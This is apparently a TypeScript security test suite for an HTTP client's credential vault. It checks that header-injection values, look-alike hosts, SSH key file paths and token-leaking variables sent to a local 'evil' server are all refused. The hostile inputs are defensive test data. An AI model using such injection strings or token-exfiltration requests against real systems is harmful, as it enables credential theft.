/** Attacks on the whole pipeline: what a cloned workspace or a hostile API tries through an ordinary Send. */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Secret } from '../../src/credentials/secret.ts';
import { createEngineFixture, fixtureRoot, type EngineFixture, type FixtureOptions } from '../support/engine.ts';
import { serveHttp, type Listening } from '../support/http-servers.ts';

let good: Listening;
let evil: Listening;
const atGood: IncomingMessage[] = [];
const atEvil: IncomingMessage[] = [];
const fixtures: EngineFixture[] = [];

function answer(seen: IncomingMessage[]): (request: IncomingMessage, response: ServerResponse) => void {
  return (request, response) => {
    seen.push(request);
    request.resume();
    const url = new URL(request.url ?? '/', 'http://x');
    const to = url.searchParams.get('to');
    if (to) return void response.writeHead(Number(url.searchParams.get('status') ?? 302), { location: to }).end();
    if (url.pathname === '/host') {
      return void response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ host: evil.url }));
    }
    response.end('ok');
  };
}

beforeAll(async () => {
  good = await serveHttp(answer(atGood));
  evil = await serveHttp(answer(atEvil));
});
afterAll(async () => {
  await good.close();
  await evil.close();
});
afterEach(async () => {
  atGood.length = 0;
  atEvil.length = 0;
  for (const fixture of fixtures.splice(0)) await fixture.dispose();
});

const canary = 'canary-9f3b7c2e51d84a60';

async function engine(options: FixtureOptions = {}, definition: object = {}): Promise<EngineFixture> {
  const fixture = createEngineFixture(options);
  fixtures.push(fixture);
  const orders = { scheme: 'apiKey', in: 'header', name: 'X-API-Key', origins: [good.url], ...definition };
  fixture.vault.setWorkspaceDefinitions(fixtureRoot, {
    file: '/project/countersign.json',
    text: JSON.stringify({ credentials: { orders } }),
  });
  const named = await fixture.vault.find('orders', fixtureRoot);
  if (named) await fixture.vault.setSecret(named, '', new Secret(canary, 'orders API key'));
  return fixture;
}

function arrivedAt(seen: readonly IncomingMessage[]): string {
  return seen
    .map((request) => `${request.method ?? ''} ${request.url ?? ''} ${request.rawHeaders.join(' ')}`)
    .join('\n');
}

describe('W01 line breaks from variables', () => {
  for (const [what, value] of [
    ['CR LF', 'x\r\nX-Evil: 1'],
    ['LF only', 'x\nX-Evil: 1'],
    ['NUL', 'x\u0000y'],
    ['characters that Latin-1 would cut to CR LF', 'x\u010d\u010aX-Evil: 1'],
  ] as const) {
    it(`W01 refuses ${what} in a header, with its place`, async () => {
      const fixture = await engine();
      const result = await fixture.send(`GET ${good.url}/a\nX-Note: {{bad}}\n`, {
        overrides: new Map([['bad', { text: value, secrets: [] }]]),
      });
      expect(result.error).toMatchObject({ code: 'CS-HTTP-HEADER', place: { line: 2 } });
      expect(result.error?.message).not.toContain('X-Evil');
      expect(atGood).toHaveLength(0);
    });
  }
  it('W01 refuses a line break in the address', async () => {
    const fixture = await engine();
    const result = await fixture.send(`GET ${good.url}/{{bad}}\n`, {
      overrides: new Map([['bad', { text: 'a HTTP/1.1\r\nX-Evil: 1\r\n\r\n', secrets: [] }]]),
    });
    expect(result.error?.code).toBe('CS-HTTP-URL');
    expect(atGood).toHaveLength(0);
  });
});

describe('W03 a credential named for another address', () => {
  const forms: [string, () => string][] = [
    ['another host', () => `${evil.url}/a`],
    ['the good host as user name', () => evil.url.replace('http://', `http://${good.url.replace('http://', '')}@`)],
    ['the good host as a prefix', () => 'http://127.0.0.1.evil.example/'],
    ['a backslash before the good host', () => `${evil.url}\\@${good.url.replace('http://', '')}`],
  ];
  for (const [what, address] of forms) {
    it(`W03 attaches nothing to ${what}`, async () => {
      const fixture = await engine();
      const result = await fixture.send(`# @auth orders\nGET ${address()}\n`);
      expect(result.error?.code).toBe('CS-BIND-ORIGIN');
      expect(result.secretSent).toBe(false);
      expect(arrivedAt(atEvil)).not.toContain(canary);
      expect(fixture.asked).toHaveLength(0);
    });
  }
});

describe('W04 files outside the workspace', () => {
  const files = { '/home/me/.ssh/id_rsa': 'PRIVATE', '/project/ok.txt': 'fine' };
  it('W04 does not read a file above the workspace', async () => {
    const fixture = await engine({ files });
    const result = await fixture.send(`POST ${good.url}/a\n\n< ../home/me/.ssh/id_rsa\n`);
    expect(result.error?.code).toBe('CS-FILE-OUTSIDE');
    expect(fixture.files.reads).not.toContain('/home/me/.ssh/id_rsa');
    expect(atGood).toHaveLength(0);
  });
  it('W04 refuses a network share without a look', async () => {
    const result = await (await engine()).send(`POST ${good.url}/a\n\n< \\\\evil\\share\\x\n`);
    expect(result.error?.code).toBe('CS-FILE-OUTSIDE');
  });
  it('W04 sends it when the person says so', async () => {
    const fixture = await engine({ files, chooses: (_title, choices) => choices.at(-1) });
    const result = await fixture.send(`POST ${good.url}/a\n\n< /home/me/.ssh/id_rsa\n`);
    expect(result.error).toBeUndefined();
    expect(fixture.questions.join()).toContain('/home/me/.ssh/id_rsa');
  });
});

describe('W06 an answer that chooses the next host', () => {
  it('W06 checks the origin after everything is resolved', async () => {
    const fixture = await engine();
    const text = `# @name first\nGET ${good.url}/host\n\n### \n# @name second\n# @auth orders\nGET {{first.response.body.$.host}}/steal\n`;
    await fixture.send(text, { name: 'first' });
    const result = await fixture.send(text, { name: 'second' });
    expect(result.error?.code).toBe('CS-BIND-ORIGIN');
    expect(atEvil).toHaveLength(0);
  });
});

describe('a cloned workspace', () => {
  it('cannot use a secret that was given to the definition before it changed', async () => {
    const fixture = await engine();
    await fixture.send(`# @auth orders\nGET ${good.url}/a\n`);
    expect(arrivedAt(atGood)).toContain(canary);
    fixture.vault.setWorkspaceDefinitions(fixtureRoot, {
      file: '/project/countersign.json',
      text: JSON.stringify({
        credentials: { orders: { scheme: 'apiKey', in: 'header', name: 'X-API-Key', origins: [good.url, evil.url] } },
      }),
    });
    const declined = createEngineFixture({ approves: false, secrets: fixture.secrets });
    fixtures.push(declined);
    declined.vault.setWorkspaceDefinitions(fixtureRoot, {
      file: '/project/countersign.json',
      text: JSON.stringify({
        credentials: { orders: { scheme: 'apiKey', in: 'header', name: 'X-API-Key', origins: [good.url, evil.url] } },
      }),
    });
    const result = await declined.send(`# @auth orders\nGET ${evil.url}/a\n`);
    expect(result.error?.code).toBe('CS-BIND-APPROVAL');
    expect(arrivedAt(atEvil)).not.toContain(canary);
  });

  it('cannot send a token by a variable to an origin it is not bound to', async () => {
    const fixture = await engine();
    const result = await fixture.send(`GET ${evil.url}/a\nX-Steal: {{$auth.token("orders")}}\n`);
    expect(result.error?.code).toBe('CS-BIND-ORIGIN');
    expect(atEvil).toHaveLength(0);
  });

  it('cannot hide the token in the address either', async () => {
    const fixture = await engine();
    const result = await fixture.send(`GET ${evil.url}/a?t={{$auth.token("orders")}}\n`);
    expect(result.error?.code).toBe('CS-BIND-ORIGIN');
    expect(atEvil).toHaveLength(0);
  });

  it('cannot switch verification off by a directive, and the person is told', async () => {
    const result = await (await engine()).send(`# @no-reject-unauthorized\nGET ${good.url}/a\n`);
    expect(result.notes.map((note) => note.message).join()).toContain('Only a person can allow that');
  });
});

describe('A01 and A02 through the pipeline', () => {
  it('A01 drops a literal key header, a cookie and a variable secret on the way to another origin', async () => {
    const fixture = await engine({
      files: { '/project/http-client.private.env.json': '{"dev":{"pass":"canary-private-1"}}' },
    });
    const result = await fixture.send(
      `GET ${good.url}/r?to=${encodeURIComponent(`${evil.url}/x`)}\nX-Api-Key: ${canary}\nCookie: s=${canary}\nX-Custom: {{pass}}\nX-Plain: stays\n`,
      { environments: ['dev'] },
    );
    expect(result.error).toBeUndefined();
    expect(arrivedAt(atEvil)).toContain('stays');
    expect(arrivedAt(atEvil)).not.toContain(canary);
    expect(arrivedAt(atEvil)).not.toContain('canary-private-1');
  });

  it('A02 does not put literal headers on again on the way back', async () => {
    const fixture = await engine();
    const back = encodeURIComponent(`${good.url}/end`);
    const away = encodeURIComponent(`${evil.url}/r?to=${back}`);
    await fixture.send(`GET ${good.url}/r?to=${away}\nX-Api-Key: ${canary}\n`);
    const last = atGood.at(-1);
    expect(last?.url).toBe('/end');
    expect(last?.rawHeaders.join()).not.toContain(canary);
  });

  it('A03 asks before a body is sent on to another origin', async () => {
    const declined = await engine();
    const to = encodeURIComponent(`${evil.url}/x`);
    const text = `POST ${good.url}/r?status=307&to=${to}\nContent-Type: text/plain\n\nbody`;
    await declined.send(text);
    expect(declined.questions.join()).toContain(evil.url);
    expect(atEvil).toHaveLength(0);
    const agreed = await engine({ chooses: () => 'Send Body' });
    await agreed.send(text);
    expect(atEvil).toHaveLength(1);
  });
});
